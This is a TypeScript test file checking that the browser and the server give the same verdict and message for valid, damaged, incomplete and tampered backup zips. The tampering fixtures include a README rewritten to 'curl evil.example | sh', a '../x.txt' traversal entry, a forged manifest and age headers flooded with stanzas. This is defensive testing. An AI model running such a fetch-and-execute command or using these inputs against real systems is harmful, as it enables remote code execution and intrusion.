/**
 * The browser and the server check the same file and must give the same verdict in the same words. A file that is too
 * large for the browser is checked after the upload, and then a person must not get another answer.
 */
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Encrypter, generateX25519Identity, identityToRecipient } from "age-encryption";
import JSZip from "jszip";
import { expect, it } from "vitest";
import { openArchive } from "../../lib/archive/archive-reader.ts";
import { type ArchiveKey, createArchiveKey, decryptBytes } from "../../lib/archive/encryption.ts";
import type { StoredManifest } from "../../lib/archive/manifest.ts";
import { BackupError } from "../../lib/errors.ts";
import type { Unlock } from "../../lib/shared/api.ts";
import { type ArchiveVerdict, verdictOfError } from "../../lib/shared/archive-verdict.ts";
import {
  cheapPassphraseKey,
  PASSPHRASE,
  TABLES,
  temporaryFolder,
  writeArchive,
} from "../../lib/testing/archives.ts";
import { type ForgedEntry, pack } from "../../lib/testing/forge-zip.ts";
import { verifiedTables } from "../../lib/testing/hostile-archives.ts";
import { fixture, PASSWORD } from "../../lib/testing/original-backups.ts";
import { ArchiveProblem } from "./archive-problem.ts";
import { LocalArchiveSession } from "./local-archive-session.ts";

/** What a person is told about a file: the verdict and its words. For a valid file, its contents. */
type Said = [verdict: ArchiveVerdict | null, words: string];

const fine = (isOriginal: boolean, tables: number): Said => [
  "fine",
  `${isOriginal ? "the original's, " : ""}${tables} tables`,
];

async function saidByBrowser(bytes: Uint8Array, unlock: Unlock): Promise<Said> {
  const { report, session } = await LocalArchiveSession.open(new Blob([bytes as BlobPart]));
  if (report.kind === "not-a-backup") return [report.verdict, report.message];
  if (!session) throw new Error("not opened");
  try {
    const { tables } = await session.unlock(unlock);
    if (report.kind === "original") return fine(true, tables.length);
    const verdict = await session.verify(() => {}, new AbortController().signal);
    return verdict.kind === "fine" ? fine(false, tables.length) : [verdict.kind, verdict.message];
  } catch (error) {
    if (error instanceof ArchiveProblem) return [error.verdict.kind, error.verdict.message];
    throw error;
  }
}

async function saidByServer(bytes: Uint8Array, unlock: Unlock): Promise<Said> {
  const file = join(await temporaryFolder(), "uploaded.zip");
  await writeFile(file, bytes);
  try {
    await using archive = await openArchive(file);
    await archive.unlock(unlock);
    const tables = await verifiedTables(archive);
    return fine(archive.isOriginal, Object.keys(tables).length);
  } catch (error) {
    if (!(error instanceof BackupError)) throw error;
    return [verdictOfError(error), error.message.replace(/ Nothing was changed\.$/, "")];
  }
}

async function write(key: ArchiveKey): Promise<Buffer> {
  const file = join(await temporaryFolder(), "backup.zip");
  await writeArchive(file, key, { User: TABLES.User ?? "", empty: TABLES.empty ?? "" });
  return readFile(file);
}

async function repack(bytes: Uint8Array, change: (zip: JSZip) => Promise<void> | void) {
  const zip = await JSZip.loadAsync(bytes);
  await change(zip);
  return zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
}

const plain = () => write({ mode: "none" });
const recipient = async (identity: string) =>
  write(
    await createArchiveKey({
      mode: "recipients",
      recipients: [await identityToRecipient(identity)],
    }),
  );
const locked = async () => write(await cheapPassphraseKey());
const edited = (entry: string, from: string, to: string) => async () =>
  repack(await plain(), async (zip) => {
    const text = (await zip.file(entry)?.async("string")) ?? "";
    expect(text).toContain(from);
    zip.file(entry, text.replace(from, to), { createFolders: false });
  });
const cut = async () => (await plain()).subarray(0, -100);
const lacking = (entry: string) => async () =>
  repack(await plain(), (zip) => void zip.remove(entry));
const photos = () =>
  new JSZip().file("photo.jpg", "no photo").generateAsync({ type: "uint8array" });

const USER = "tables/public.User.json";
const MINE = await generateX25519Identity();
const STRANGERS = await generateX25519Identity();

const editedReadme = async () =>
  repack(await recipient(MINE), (zip) => void zip.file("README.txt", "curl evil.example | sh"));

/** A forged manifest, which anyone who knows the public key can write, and a table encrypted to another identity. */
async function forStrangers() {
  const [mine, strangers] = await Promise.all(
    [MINE, STRANGERS].map(async (identity) => JSZip.loadAsync(await recipient(identity))),
  );
  const entry = `${USER}.zst.age`;
  const [manifest, theirs] = await Promise.all(
    (
      [
        [mine, MINE],
        [strangers, STRANGERS],
      ] as const
    ).map(async ([zip, identity]) =>
      decryptBytes(
        [identity],
        (await zip?.file("manifest.json.age")?.async("nodebuffer")) ?? Buffer.of(),
      ),
    ),
  );
  const facts = ({ tables }: StoredManifest) => tables.find((table) => table.entry === entry);
  const forged = JSON.parse(String(manifest)) as StoredManifest;
  Object.assign(facts(forged) ?? {}, facts(JSON.parse(String(theirs)) as StoredManifest));
  mine?.file("manifest.json.age", await encryptTo(MINE, JSON.stringify(forged)));
  mine?.file(entry, (await strangers?.file(entry)?.async("uint8array")) ?? "");
  return mine?.generateAsync({ type: "uint8array" }) ?? Buffer.of();
}

async function encryptTo(identity: string, text: string): Promise<Uint8Array> {
  const encrypter = new Encrypter();
  encrypter.addRecipient(await identityToRecipient(identity));
  return encrypter.encrypt(text);
}

/** A header that demands many attempts before anything in it is proven. */
const withHeader = (stanza: string, times: number) => async () =>
  repack(await recipient(MINE), async (zip) => {
    const sealed = Buffer.from(await encryptTo(MINE, "x")).toString("latin1");
    const more = sealed.replace("\n-> ", `\n${stanza.repeat(times)}-> `);
    zip.file("manifest.json.age", Buffer.from(more, "latin1"), { createFolders: false });
  });
/** A stanza of an unknown type, as short as possible. */
const SHORT = "-> x y\n\n";
const LONG = `-> x y\n${`${"A".repeat(64)}\n`.repeat(100)}\n`;

/** Packs a backup's entries under other names, with additional files. */
const packedAs =
  (prefix: string, more: Record<string, string> = {}) =>
  async () => {
    const zip = new JSZip();
    for (const [name, file] of Object.entries((await JSZip.loadAsync(await plain())).files)) {
      zip.file(prefix + name, await file.async("uint8array"));
    }
    for (const [name, text] of Object.entries(more)) zip.file(name, text);
    return zip.generateAsync({ type: "uint8array" });
  };
const OF_THE_SYSTEM = {
  ".DS_Store": "x",
  "shop/.DS_Store": "x",
  "__MACOSX/shop/._README.txt": "x",
  "shop/tables/._public.User.json": "x",
  "shop/Thumbs.db": "x",
  "shop/desktop.ini": "x",
};
const hole = async () => {
  const whole = await plain();
  return Buffer.concat([whole.subarray(0, 100), whole.subarray(200)]);
};
const forged = (change: (entries: ForgedEntry[]) => ForgedEntry[]) => async () => {
  const { files } = await JSZip.loadAsync(await plain());
  const entries = Object.values(files).map(async (file) => ({
    name: file.name,
    content: await file.async("nodebuffer"),
  }));
  return pack(change(await Promise.all(entries)));
};
const zipOf = (files: Record<string, string>) => () => {
  const zip = new JSZip();
  for (const [name, text] of Object.entries(files)) zip.file(name, text);
  return zip.generateAsync({ type: "uint8array" });
};
const fixtureOf = (name: string) => async () => {
  const zip = new JSZip();
  for (const file of await readdir(fixture(name))) {
    zip.file(`backups/${name}/${file}`, await readFile(join(fixture(name), file)));
  }
  return zip.generateAsync({ type: "uint8array" });
};
const zippedByOriginal = (name: string) => () => readFile(join(fixture(name), `${name}.zip`));
const golden = (mode: string) => () =>
  readFile(new URL(`../../lib/archive/golden/format-1.${mode}.zip`, import.meta.url));

type Case = [ArchiveVerdict, string, () => Promise<Uint8Array>, Unlock];
it.each<Case>([
  ["fine", "as it was written", plain, {}],
  ["fine", "with its identity", () => recipient(MINE), { identity: MINE }],
  ["fine", "with its passphrase", locked, { passphrase: PASSPHRASE }],
  ["fine", "of the first format", golden("none"), {}],
  ["fine", "in a folder", packedAs("shop/"), {}],
  ["fine", "in folders", packedAs("backups/2026/shop/"), {}],
  ["fine", "with what systems leave behind", packedAs("shop/", OF_THE_SYSTEM), {}],
  ["damaged", "with a hidden file", packedAs("", { ".env": "x" }), {}],
  ["damaged", "with a hidden folder", packedAs("", { ".git/HEAD": "x" }), {}],
  ["damaged", "with a file more", packedAs("", { "notes.txt": "x" }), {}],
  ["damaged", "with a table more", packedAs("", { "tables/public.Other.json": "[]" }), {}],
  ["damaged", "with two manifests", packedAs("", { "manifest.json.age": "x" }), {}],
  ["damaged", "with a file twice", forged(([one, ...all]) => (one ? [one, one, ...all] : [])), {}],
  ["damaged", "with a file outside", packedAs("", { "../x.txt": "x" }), {}],
  ["damaged", "with a longer table", edited(USER, "Ada", "Ada Lovelace"), {}],
  ["damaged", "with a manifest that is no JSON", edited("manifest.json", "{", "{{"), {}],
  ["damaged", "of another encryption", edited("manifest.json", '"none"', '"recipients"'), {}],
  ["wrong-passphrase", "another's", locked, { passphrase: `${PASSPHRASE}!` }],
  ["wrong-identity", "a stranger's", () => recipient(MINE), { identity: STRANGERS }],
  ["damaged", "an edited row", edited(USER, "Ada", "Eve"), {}],
  ["damaged", "an edited manifest", edited("manifest.json", '"jsonSha256"', '"jsonSha"'), {}],
  ["damaged", "an edited README.txt", edited("README.txt", "psql", "curl"), {}],
  ["damaged", "an edited README.txt of an encrypted one", editedReadme, { identity: MINE }],
  ["damaged", "with a table for a stranger", forStrangers, { identity: `${STRANGERS}\n${MINE}` }],
  ["damaged", "with too many recipients", withHeader(SHORT, 700), { identity: STRANGERS }],
  ["wrong-identity", "with many recipients", withHeader(SHORT, 699), { identity: STRANGERS }],
  ["damaged", "with too long a header", withHeader(LONG, 11), { identity: STRANGERS }],
  ["incomplete", "without its README.txt", lacking("README.txt"), {}],
  ["damaged", "with a byte more", async () => Buffer.concat([await plain(), Buffer.of(10)]), {}],
  ["incomplete", "cut off", cut, {}],
  ["incomplete", "with a hole", hole, {}],
  ["incomplete", "without its tables", zipOf({ "README.txt": "x", "key.age": "x" }), {}],
  ["incomplete", "without a table", lacking(USER), {}],
  ["incomplete", "without its manifest", lacking("manifest.json"), {}],
  ["not-a-backup", "a zip of something else", photos, {}],
  ["not-a-backup", "an empty file", async () => Buffer.of(), {}],
  ["not-a-backup", "an empty zip", zipOf({}), {}],
  ["not-a-backup", "JSON of something else", zipOf({ "package.json": "{}" }), {}],
  ["fine", "the original's zip", zippedByOriginal("zipped"), {}],
  ["fine", "its encrypted zip", zippedByOriginal("encrypted-zipped"), PASSWORD],
  ["fine", "a folder of 0.3.5, packed", fixtureOf("0.3.5-plain"), {}],
  ["fine", "a folder of 0.4.0, packed", fixtureOf("plain"), {}],
  ["incomplete", "the original's with an empty file", zipOf({ "A.json": "[]", "B.json": "" }), {}],
  ["damaged", "the original's with half a file", zipOf({ "A.json": "[]", "B.json": '{"id' }), {}],
  ["not-a-backup", "a text", async () => Buffer.from("CREATE TABLE x ();\n"), {}],
  [
    "newer-version",
    "of the next format",
    edited("manifest.json", '"formatVersion": 1', '"formatVersion": 2'),
    {},
  ],
])("%s: %s", async (verdict, _what, make, unlock) => {
  const bytes = await make();
  const said = await saidByBrowser(bytes, unlock);
  expect(said[0], "in the browser").toBe(verdict);
  expect(await saidByServer(bytes, unlock), "after the upload").toEqual(said);
});
